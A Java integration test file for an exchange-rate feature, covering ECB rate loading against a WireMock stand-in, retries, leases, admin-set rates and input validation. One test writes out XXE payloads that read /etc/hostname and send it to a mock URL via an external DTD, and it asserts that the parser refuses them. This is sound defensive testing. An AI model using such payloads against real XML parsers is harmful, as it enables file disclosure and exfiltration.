package io.meterline.platform.fx;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import io.meterline.platform.common.jdbc.TimeColumns;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.WireMock;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.core.WireMockConfiguration;
import com.github.tomakehurst.wiremock.http.Fault;
import com.github.tomakehurst.wiremock.stubbing.Scenario;
import io.meterline.platform.support.Fixtures;
import io.meterline.platform.support.MutableClock;
import io.meterline.platform.support.Rows;
import io.meterline.platform.support.ServerTest;
import io.meterline.platform.support.TestApi;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.transaction.TransactionOperations;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Exchange rates through the public API on the real database: the bundled history, the ECB loader
 * against WireMock in the ECB's place (daily and history files, failures, XXE), the lease between
 * instances, and fxRateSet with every hostile input refused and nothing stored.
 */
class FxRatesIT extends ServerTest {

    private static final String DAILY = "/stats/eurofxref/eurofxref-daily.xml";
    private static final Instant TUESDAY_NOON = Instant.parse("2026-11-10T12:00:00Z");
    private static final String RATE = "query($from: CurrencyCode!, $to: CurrencyCode!, $date: Date) {"
            + " fxRate(from: $from, to: $to, date: $date) { from to rate rateDate source setBy } }";
    private static final String SET = "mutation($input: FxRateSetInput!) { fxRateSet(input: $input) {"
            + " fxRate { from to rate rateDate source setBy } userErrors { field message code } } }";
    private static final String STATUS = "{ fxStatus { enabled url state lastAttemptAt lastSuccessAt lastFailureAt lastError lastHttpStatus attempts"
            + " latestRateDate ratesStored } }";
    private static final String RATES = "query($currency: CurrencyCode, $first: Int, $after: String) { fxRates(currency: $currency, first: $first, after: $after) {"
            + " totalCount nodes { from to rate rateDate source setBy } pageInfo { hasNextPage endCursor } } }";

    @Inject
    EcbLoader loader;

    @Inject
    BundledRates bundled;

    @Inject
    MutableClock clock;

    @Inject
    TransactionOperations<Connection> transactions;

    WireMockServer ecb;
    Rows rows;
    String admin;
    Fixtures.Tenant tenant;

    @Override
    public Map<String, String> getProperties() {
        // The server reads the ECB's URL at start, so WireMock must listen before it.
        ecb = new WireMockServer(WireMockConfiguration.options().dynamicPort());
        ecb.start();
        Map<String, String> properties = new HashMap<>(super.getProperties());
        properties.put(MutableClock.ENABLE, "true");
        properties.put("meterline.fx.ecb-url", ecb.baseUrl() + DAILY);
        properties.put("meterline.fx.max-attempts", "3");
        // Tests call loadNow themselves and must not wait between attempts.
        properties.put("meterline.fx.backoff", "0s");
        properties.put("meterline.fx.timeout", "1s");
        properties.put("meterline.fx.max-response-bytes", "20000");
        return properties;
    }

    @BeforeAll
    void setUp() {
        rows = new Rows(transactions);
        admin = api.adminToken();
        tenant = Fixtures.tenant(api, "fx-tenant", "UTC");
    }

    @AfterAll
    void stopEcb() {
        ecb.stop();
    }

    /** Each test starts with a loader that never ran. */
    @BeforeEach
    void reset() {
        ecb.resetAll();
        clock.set(TUESDAY_NOON);
        rows.execute("UPDATE fx_load_status SET lease_until = NULL, last_attempt_at = NULL, last_success_at = NULL, last_failure_at = NULL,"
                + " last_error = NULL, last_http_status = NULL, attempts = 0, latest_rate_date = NULL, rates_stored = 0");
    }

    private static String day(String date, Map<String, String> rates) {
        StringBuilder cube = new StringBuilder("\t\t<Cube time='" + date + "'>\n");
        rates.forEach((currency, rate) -> cube.append("\t\t\t<Cube currency='").append(currency).append("' rate='").append(rate).append("'/>\n"));
        return cube.append("\t\t</Cube>\n").toString();
    }

    private void serve(String body) {
        ecb.stubFor(WireMock.get(urlEqualTo(DAILY)).willReturn(aResponse().withStatus(200).withHeader("Content-Type", "text/xml").withBody(body)));
    }

    private void serve(ResponseDefinitionBuilder response) {
        ecb.stubFor(WireMock.get(urlEqualTo(DAILY)).willReturn(response));
    }

    private int ecbRequests() {
        return ecb.findAll(getRequestedFor(urlEqualTo(DAILY))).size();
    }

    private long rateCount() {
        return rows.count("SELECT COUNT(*) FROM fx_rate");
    }

    private static Map<String, Object> fxRate(String from, String to, String rate, String rateDate, String source, String setBy) {
        Map<String, Object> expected = new HashMap<>();
        expected.put("from", from);
        expected.put("to", to);
        expected.put("rate", rate);
        expected.put("rateDate", rateDate);
        expected.put("source", source);
        expected.put("setBy", setBy);
        return expected;
    }

    private TestApi.Response rate(String token, String from, String to, String date) {
        Map<String, Object> variables = new HashMap<>();
        variables.put("from", from);
        variables.put("to", to);
        variables.put("date", date);
        return api.graphql(token, RATE, variables);
    }

    private TestApi.Response set(String token, Object currency, Object rate, Object date) {
        Map<String, Object> input = new LinkedHashMap<>();
        input.put("currency", currency);
        input.put("rate", rate);
        input.put("date", date);
        return api.graphql(token, SET, Map.of("input", input));
    }

    @Test
    void theBundledHistoryConvertsWithoutTheNetwork() {
        // Other tests load November days from the ECB; the 1st has only the bundled rates before it.
        TestApi.Response latest = rate(tenant.memberToken(), "EUR", "USD", "2026-11-01");
        assertThat(latest.at("data.fxRate")).as(latest.body()).isEqualTo(fxRate("EUR", "USD", "1.147600000000", "2026-03-13", "BUNDLED", null));
        // Saturday of Easter 2025: Good Friday has no rate, both legs come from Thursday; USD→INR is a cross rate through EUR.
        TestApi.Response easter = rate(tenant.memberToken(), "USD", "INR", "2025-04-19");
        assertThat(easter.at("data.fxRate.rate")).isEqualTo("85.403609154930");
        assertThat(easter.at("data.fxRate.rateDate")).isEqualTo("2025-04-17");
        Map<String, Object> none = new HashMap<>();
        none.put("fxRate", null);
        assertThat(rate(tenant.memberToken(), "EUR", "USD", "2024-11-19").at("data")).as("before the first bundled day").isEqualTo(none);

        long stored = rows.count("SELECT COUNT(*) FROM fx_rate WHERE source = 'BUNDLED'");
        assertThat(stored).isEqualTo(118 * 7);
        assertThat(bundled.load()).as("a second start stores nothing").isZero();
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE source = 'BUNDLED'")).isEqualTo(stored);
        assertThat(ecb.getAllServeEvents()).as("nothing read from the network").isEmpty();
    }

    @Test
    void theDailyFileIsStoredOnceAndAWeekendUsesItsFriday() {
        clock.set(Instant.parse("2026-11-08T10:00:00Z"));
        serve(EcbRatesParserTest.envelope(day("2026-11-06", Map.of("USD", "1.1611", "CAD", "1.6234", "NZD", "2.0123"))));

        FxLoadStatus status = loader.loadNow();
        assertThat(status.state()).isEqualTo(FxLoadStatus.State.OK);
        assertThat(status.ratesStored()).isEqualTo(3);
        assertThat(status.attempts()).isEqualTo(1);
        assertThat(status.latestRateDate()).hasToString("2026-11-06");

        TestApi.Response sunday = rate(tenant.memberToken(), "EUR", "USD", "2026-11-08");
        assertThat(sunday.at("data.fxRate")).as(sunday.body()).isEqualTo(fxRate("EUR", "USD", "1.161100000000", "2026-11-06", "ECB", null));
        assertThat(rate(tenant.memberToken(), "USD", "CAD", "2026-11-07").at("data.fxRate.rate")).isEqualTo("1.398156920162");

        long ecbRows = rows.count("SELECT COUNT(*) FROM fx_rate WHERE source = 'ECB' AND rate_date = ?", LocalDate.parse("2026-11-06"));
        assertThat(ecbRows).isEqualTo(3);
        assertThat(loader.loadNow().ratesStored()).as("the next load finds nothing new").isZero();
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE source = 'ECB' AND rate_date = ?", LocalDate.parse("2026-11-06"))).isEqualTo(ecbRows);
        assertThat(ecbRequests()).isEqualTo(2);
    }

    @Test
    void theHistoryFileIsStoredAndChristmasUsesTheDayBefore() {
        clock.set(Instant.parse("2026-12-29T12:00:00Z"));
        String older = day("2026-12-24", Map.of("GBP", "0.8711", "CHF", "0.9302", "SEK", "11.05"))
                + day("2026-12-23", Map.of("GBP", "0.8702", "CHF", "0.9311", "SEK", "11.04"));
        serve(EcbRatesParserTest.envelope(day("2026-12-28", Map.of("GBP", "0.8723", "CHF", "0.9299", "SEK", "11.07")) + older));
        FxLoadStatus status = loader.loadNow();
        assertThat(status.ratesStored()).isEqualTo(9);
        assertThat(status.latestRateDate()).hasToString("2026-12-28");

        // 25 and 26 December are TARGET holidays: no rate, the 24th's applies.
        for (String holiday : List.of("2026-12-25", "2026-12-26", "2026-12-27")) {
            TestApi.Response response = rate(tenant.adminToken(), "EUR", "GBP", holiday);
            assertThat(response.at("data.fxRate.rate")).isEqualTo("0.871100000000");
            assertThat(response.at("data.fxRate.rateDate")).isEqualTo("2026-12-24");
        }

        // The next history file repeats every older day: only the new day is stored.
        clock.set(Instant.parse("2026-12-30T12:00:00Z"));
        serve(EcbRatesParserTest.envelope(day("2026-12-29", Map.of("GBP", "0.8731", "CHF", "0.9288", "SEK", "11.09"))
                + day("2026-12-28", Map.of("GBP", "0.8723", "CHF", "0.9299", "SEK", "11.07")) + older));
        assertThat(loader.loadNow().ratesStored()).isEqualTo(3);
        assertThat(rate(tenant.adminToken(), "EUR", "SEK", null).at("data.fxRate.rate")).isEqualTo("11.090000000000");
    }

    @Test
    void aFailedAttemptIsRetried() {
        ecb.stubFor(WireMock.get(urlEqualTo(DAILY)).inScenario("flaky").whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(503)).willSetStateTo("recovered"));
        ecb.stubFor(WireMock.get(urlEqualTo(DAILY)).inScenario("flaky").whenScenarioStateIs("recovered")
                .willReturn(aResponse().withStatus(200).withBody(EcbRatesParserTest.envelope(day("2026-11-09", Map.of("MXN", "21.5"))))));
        FxLoadStatus status = loader.loadNow();
        assertThat(status.state()).isEqualTo(FxLoadStatus.State.OK);
        assertThat(status.attempts()).isEqualTo(2);
        assertThat(status.ratesStored()).isEqualTo(1);
        assertThat(ecbRequests()).isEqualTo(2);
    }

    /** A failing ECB: every attempt made, then a FAILED status admins see, and not one rate stored. */
    private void assertFailsWith(FxLoadError error, Integer httpStatus) {
        long before = rateCount();
        FxLoadStatus status = loader.loadNow();
        assertThat(status.state()).isEqualTo(FxLoadStatus.State.FAILED);
        assertThat(status.lastError()).isEqualTo(error);
        assertThat(status.lastHttpStatus()).isEqualTo(httpStatus);
        assertThat(status.attempts()).isEqualTo(3);
        assertThat(ecbRequests()).isEqualTo(3);
        assertThat(rateCount()).as("nothing stored").isEqualTo(before);

        TestApi.Response seen = api.graphql(admin, STATUS);
        assertThat(seen.at("data.fxStatus.state")).as(seen.body()).isEqualTo("FAILED");
        assertThat(seen.at("data.fxStatus.lastError")).isEqualTo(error.name());
        assertThat(seen.at("data.fxStatus.lastHttpStatus")).isEqualTo(httpStatus);
        assertThat(seen.at("data.fxStatus.url")).isEqualTo(ecb.baseUrl() + DAILY);
        assertThat(seen.at("data.fxStatus.lastFailureAt")).isEqualTo("2026-11-10T12:00:00Z");
        assertThat(seen.body()).doesNotContain("Sentinel");
        ecb.resetRequests();
    }

    @Test
    void anEcbAnswering500IsRetriedThenReportedAsFailed() {
        serve(aResponse().withStatus(500).withBody("Sentinel error page"));
        assertFailsWith(FxLoadError.HTTP_STATUS, 500);
        assertThat(api.graphql(tenant.adminToken(), STATUS).at("errors.0.extensions.code")).isEqualTo("FORBIDDEN");
        assertThat(api.graphql(tenant.memberToken(), STATUS).at("errors.0.extensions.code")).isEqualTo("FORBIDDEN");
    }

    @Test
    void anEcbTimingOutOrDroppingTheConnectionIsReportedAsFailed() {
        serve(aResponse().withStatus(200).withFixedDelay(3000).withBody(EcbRatesParserTest.envelope(day("2026-11-09", Map.of("PLN", "4.2")))));
        assertFailsWith(FxLoadError.TIMEOUT, null);
        serve(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
        assertFailsWith(FxLoadError.UNREACHABLE, null);
        serve(aResponse().withFault(Fault.MALFORMED_RESPONSE_CHUNK));
        assertFailsWith(FxLoadError.UNREACHABLE, null);
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE quote_currency = 'PLN'")).isZero();
    }

    @Test
    void malformedAnswersAreRefusedWholeAndNothingIsHalfStored() {
        String good = day("2026-11-09", Map.of("HUF", "391.2", "CZK", "24.4"));
        String document = EcbRatesParserTest.envelope(good);
        serve(document.substring(0, document.length() - 40));
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve(EcbRatesParserTest.envelope(good + day("2026-11-06", Map.of("HUF", "391,48"))));
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve(EcbRatesParserTest.envelope(good + day("2026-11-11", Map.of("HUF", "390.1"))));
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve(EcbRatesParserTest.envelope(good + day("2026-11-06", Map.of("CZK", "-24.4"))));
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve("");
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve(EcbRatesParserTest.envelope(good + "<!-- " + "x".repeat(20_000) + " -->"));
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve("<html><body>Sentinel maintenance</body></html>");
        assertFailsWith(FxLoadError.NO_RATES, null);
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE quote_currency IN ('HUF', 'CZK')")).isZero();
    }

    @Test
    void xxePayloadsAreRefusedAndReadNothing() {
        ecb.stubFor(WireMock.get(urlEqualTo("/secret")).willReturn(aResponse().withStatus(200).withBody("1.5")));
        ecb.stubFor(WireMock.get(urlEqualTo("/evil.dtd")).willReturn(aResponse().withStatus(200)
                .withBody("<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % all \"<!ENTITY send SYSTEM '" + ecb.baseUrl() + "/secret?%file;'>\">%all;")));
        String body = EcbRatesParserTest.envelope(day("2026-11-09", Map.of("RON", "&xxe;"))).replaceFirst("<\\?xml[^>]*>\n", "");
        serve("<?xml version=\"1.0\"?>\n<!DOCTYPE gesmes:Envelope [<!ENTITY xxe SYSTEM \"" + ecb.baseUrl() + "/secret\">]>\n" + body);
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve("<?xml version=\"1.0\"?>\n<!DOCTYPE gesmes:Envelope [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>\n" + body);
        assertFailsWith(FxLoadError.MALFORMED, null);
        serve("<?xml version=\"1.0\"?>\n<!DOCTYPE gesmes:Envelope SYSTEM \"" + ecb.baseUrl() + "/evil.dtd\">\n"
                + EcbRatesParserTest.envelope(day("2026-11-09", Map.of("RON", "4.97"))).replaceFirst("<\\?xml[^>]*>\n", ""));
        assertFailsWith(FxLoadError.MALFORMED, null);
        assertThat(ecb.findAll(getRequestedFor(urlEqualTo("/secret")))).as("no external entity fetched").isEmpty();
        assertThat(ecb.findAll(getRequestedFor(urlEqualTo("/evil.dtd")))).as("no external DTD fetched").isEmpty();
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE quote_currency = 'RON'")).isZero();
    }

    @Test
    void aLoadLeasedByAnotherInstanceIsNotRepeated() {
        serve(EcbRatesParserTest.envelope(day("2026-11-09", Map.of("THB", "36.9"))));
        rows.execute("UPDATE fx_load_status SET lease_until = ?", TimeColumns.toColumn(TUESDAY_NOON.plus(Duration.ofMinutes(5))));
        assertThat(loader.loadNow().state()).isEqualTo(FxLoadStatus.State.NEVER_RUN);
        assertThat(ecbRequests()).isZero();

        clock.set(TUESDAY_NOON.plus(Duration.ofMinutes(6)));
        assertThat(loader.loadNow().state()).as("an expired lease is taken over").isEqualTo(FxLoadStatus.State.OK);
        assertThat(ecbRequests()).isEqualTo(1);
        assertThat(rows.count("SELECT COUNT(*) FROM fx_load_status WHERE lease_until IS NULL")).as("released").isEqualTo(1);
    }

    @Test
    void aPlatformAdminsRateWinsOverTheEcbForItsDayAndIsNeverChanged() {
        TestApi.Response set = set(admin, "NZD", "1.9876", "2026-11-10");
        assertThat(set.at("data.fxRateSet.userErrors")).as(set.body()).isEqualTo(List.of());
        assertThat(set.at("data.fxRateSet.fxRate")).isEqualTo(fxRate("EUR", "NZD", "1.987600000000", "2026-11-10", "MANUAL", TestApi.ADMIN_EMAIL));
        TestApi.Response read = rate(tenant.memberToken(), "EUR", "NZD", "2026-11-10");
        assertThat(read.at("data.fxRate.source")).isEqualTo("MANUAL");
        assertThat(read.at("data.fxRate.setBy")).as("only platform admins see who").isNull();

        // The ECB publishes the same day later: its NZD is ignored, its USD stored.
        clock.set(TUESDAY_NOON.plus(Duration.ofHours(4)));
        serve(EcbRatesParserTest.envelope(day("2026-11-10", Map.of("NZD", "2.0001", "USD", "1.1555"))));
        assertThat(loader.loadNow().ratesStored()).isEqualTo(1);
        assertThat(rate(tenant.memberToken(), "EUR", "NZD", "2026-11-10").at("data.fxRate.rate")).isEqualTo("1.987600000000");
        assertThat(rate(tenant.memberToken(), "NZD", "USD", "2026-11-10").at("data.fxRate.source")).isEqualTo("MANUAL");

        long before = rateCount();
        for (String currency : List.of("NZD", "USD")) {
            TestApi.Response again = set(admin, currency, "3.5", "2026-11-10");
            assertThat(again.at("data.fxRateSet.userErrors.0.code")).as(again.body()).isEqualTo("CONFLICT");
            assertThat(again.at("data.fxRateSet.userErrors.0.field")).isEqualTo(List.of("input", "date"));
            assertThat(again.at("data.fxRateSet.fxRate")).isNull();
        }
        assertThat(rateCount()).isEqualTo(before);
        assertThat(rate(tenant.memberToken(), "EUR", "USD", "2026-11-10").at("data.fxRate.rate")).isEqualTo("1.155500000000");

        TestApi.Response listed = api.graphql(admin, RATES, Map.of("currency", "NZD", "first", 5));
        assertThat(listed.at("data.fxRates.totalCount")).as(listed.body()).isEqualTo(1);
        assertThat(listed.at("data.fxRates.nodes.0.setBy")).isEqualTo(TestApi.ADMIN_EMAIL);
    }

    @Test
    void anotherInstanceSeesARateStoredForADayItFellBackForOnceItsCacheLapses() {
        try (EmbeddedServer second = startSecondInstance(Map.of(MutableClock.ENABLE, "true", "meterline.fx.ecb-enabled", "false"))) {
            MutableClock secondClock = second.getApplicationContext().getBean(MutableClock.class);
            secondClock.set(TUESDAY_NOON);
            TestApi secondApi = new TestApi(second.getURI(), jsonMapper);
            Map<String, Object> variables = new HashMap<>(Map.of("from", "EUR", "to", "SGD", "date", "2026-11-09"));
            assertThat(secondApi.graphql(tenant.memberToken(), RATE, variables).at("data")).isEqualTo(Collections.singletonMap("fxRate", null));

            assertThat(set(admin, "SGD", "1.5123", "2026-11-09").at("data.fxRateSet.userErrors")).isEqualTo(List.of());
            assertThat(rate(tenant.memberToken(), "EUR", "SGD", "2026-11-09").at("data.fxRate.rate")).as("this instance at once").isEqualTo("1.512300000000");
            assertThat(secondApi.graphql(tenant.memberToken(), RATE, variables).at("data.fxRate")).as("within meterline.fx.cache-ttl").isNull();

            secondClock.set(TUESDAY_NOON.plus(Duration.ofSeconds(61)));
            TestApi.Response later = secondApi.graphql(tenant.memberToken(), RATE, variables);
            assertThat(later.at("data.fxRate.rate")).as(later.body()).isEqualTo("1.512300000000");
            assertThat(later.at("data.fxRate.source")).isEqualTo("MANUAL");
        }
    }

    @Test
    void hostileRatesAreRefusedAndNothingIsStored() {
        long before = rateCount();
        Map<List<Object>, String> refused = new LinkedHashMap<>();
        refused.put(List.of("BRL", "0", "2026-11-09"), "rate:OUT_OF_RANGE");
        refused.put(List.of("BRL", "-1.5", "2026-11-09"), "rate:OUT_OF_RANGE");
        refused.put(List.of("BRL", "0.0000000000001", "2026-11-09"), "rate:OUT_OF_RANGE");
        refused.put(List.of("BRL", "1000000000000", "2026-11-09"), "rate:OUT_OF_RANGE");
        refused.put(List.of("BRL", "6.1", "2026-11-11"), "date:OUT_OF_RANGE");
        refused.put(List.of("BRL", "6.1", "9999-12-31"), "date:OUT_OF_RANGE");
        refused.put(List.of("BRL", "6.1", "1998-12-31"), "date:OUT_OF_RANGE");
        refused.put(List.of("BRL", "6.1", "0001-01-01"), "date:OUT_OF_RANGE");
        refused.put(List.of("EUR", "1", "2026-11-09"), "currency:INVALID");
        refused.put(List.of("XAU", "0.0004", "2026-11-09"), "currency:INVALID");
        refused.put(List.of("XXX", "1", "2026-11-09"), "currency:INVALID");
        refused.forEach((input, expected) -> {
            TestApi.Response response = set(admin, input.get(0), input.get(1), input.get(2));
            String[] fieldAndCode = expected.split(":");
            assertThat(response.at("data.fxRateSet.userErrors.0.code")).as(input + " " + response.body()).isEqualTo(fieldAndCode[1]);
            assertThat(response.at("data.fxRateSet.userErrors.0.field")).isEqualTo(List.of("input", fieldAndCode[0]));
            assertThat(response.at("data.fxRateSet.fxRate")).isNull();
        });
        // Malformed values never reach the service: the schema's scalars refuse them.
        for (List<Object> input : List.of(List.<Object>of("usd", "6.1", "2026-11-09"), List.<Object>of("ABC", "6.1", "2026-11-09"),
                List.<Object>of("BRLX", "6.1", "2026-11-09"), List.<Object>of("BRL", "six", "2026-11-09"), List.<Object>of("BRL", "NaN", "2026-11-09"),
                List.<Object>of("BRL", 6.1, "2026-11-09"), List.<Object>of("BRL", "6.1", "2026-02-30"), List.<Object>of("BRL", "6.1", "yesterday"))) {
            TestApi.Response response = set(admin, input.get(0), input.get(1), input.get(2));
            assertThat(response.at("errors.0.message")).as(input + " " + response.body()).isNotNull();
            assertThat(response.at("data")).isNull();
        }
        assertThat(set(tenant.memberToken(), "BRL", "6.1", "2026-11-09").at("errors.0.extensions.code")).isEqualTo("FORBIDDEN");
        assertThat(set(tenant.adminToken(), "BRL", "6.1", "2026-11-09").at("errors.0.extensions.code")).isEqualTo("FORBIDDEN");
        assertThat(set(null, "BRL", "6.1", "2026-11-09").at("errors.0.extensions.code")).isEqualTo("UNAUTHENTICATED");
        assertThat(rateCount()).isEqualTo(before);
        assertThat(rows.count("SELECT COUNT(*) FROM fx_rate WHERE quote_currency IN ('BRL', 'EUR', 'XAU', 'XXX')")).isZero();
    }

    @Test
    void theStatusSaysWhenTheNewestRateGetsOld() {
        LocalDate newest = LocalDate.parse(rows.value("SELECT MAX(rate_date) FROM fx_rate").toString());
        clock.set(newest.plusDays(5).atTime(12, 0).toInstant(ZoneOffset.UTC));
        TestApi.Response fresh = api.graphql(admin, "{ fxStatus { newestRateDate stale } }");
        assertThat(fresh.at("data.fxStatus")).as(fresh.body()).isEqualTo(Map.of("newestRateDate", newest.toString(), "stale", false));

        LocalDate later = newest.plusDays(6);
        clock.set(later.atTime(12, 0).toInstant(ZoneOffset.UTC));
        assertThat(api.graphql(admin, "{ fxStatus { stale } }").at("data.fxStatus.stale")).as("older than meterline.fx.max-rate-age (5 days)").isEqualTo(true);

        assertThat(api.graphql(admin, SET, Map.of("input", Map.of("currency", "NOK", "rate", "11.5", "date", later.toString())))
                .at("data.fxRateSet.userErrors")).isEqualTo(List.of());
        assertThat(api.graphql(admin, "{ fxStatus { newestRateDate stale } }").at("data.fxStatus"))
                .isEqualTo(Map.of("newestRateDate", later.toString(), "stale", false));
    }

    @Test
    void hostileReadsAreRefused() {
        assertThat(rate(tenant.memberToken(), "USD", "USD", null).at("errors.0.extensions.code")).isEqualTo("BAD_USER_INPUT");
        assertThat(rate(tenant.memberToken(), "EUR", "USD", "2026-11-11").at("errors.0.extensions.code")).isEqualTo("BAD_USER_INPUT");
        assertThat(rate(null, "EUR", "USD", null).at("errors.0.extensions.code")).isEqualTo("UNAUTHENTICATED");
        assertThat(api.graphql(tenant.adminToken(), RATES, Map.of("first", 5)).at("errors.0.extensions.code")).isEqualTo("FORBIDDEN");
        assertThat(api.graphql(admin, RATES, Map.of("first", 101)).at("errors.0.extensions.code")).isEqualTo("BAD_USER_INPUT");
        String farCursor = Base64.getUrlEncoder().withoutPadding().encodeToString("cursor:99999999999:1".getBytes(StandardCharsets.UTF_8));
        for (String cursor : List.of("garbage", farCursor)) {
            TestApi.Response response = api.graphql(admin, RATES, Map.of("first", 5, "after", cursor));
            assertThat(response.at("errors.0.extensions.code")).as(response.body()).isEqualTo("BAD_USER_INPUT");
        }
    }

    @Test
    void platformAdminsPageThroughStoredRates() {
        TestApi.Response first = api.graphql(admin, RATES, Map.of("currency", "JPY", "first", 2));
        assertThat(first.at("data.fxRates.totalCount")).as(first.body()).isEqualTo(118);
        assertThat(first.pluck("data.fxRates.nodes", "rateDate")).containsExactly("2026-03-13", "2025-05-09");
        assertThat(first.at("data.fxRates.nodes.0.rate")).isEqualTo("182.850000000000");
        assertThat(first.at("data.fxRates.pageInfo.hasNextPage")).isEqualTo(true);
        TestApi.Response next = api.graphql(admin, RATES, Map.of("currency", "JPY", "first", 2, "after", first.at("data.fxRates.pageInfo.endCursor")));
        assertThat(next.pluck("data.fxRates.nodes", "rateDate")).containsExactly("2025-05-08", "2025-05-07");
    }
}
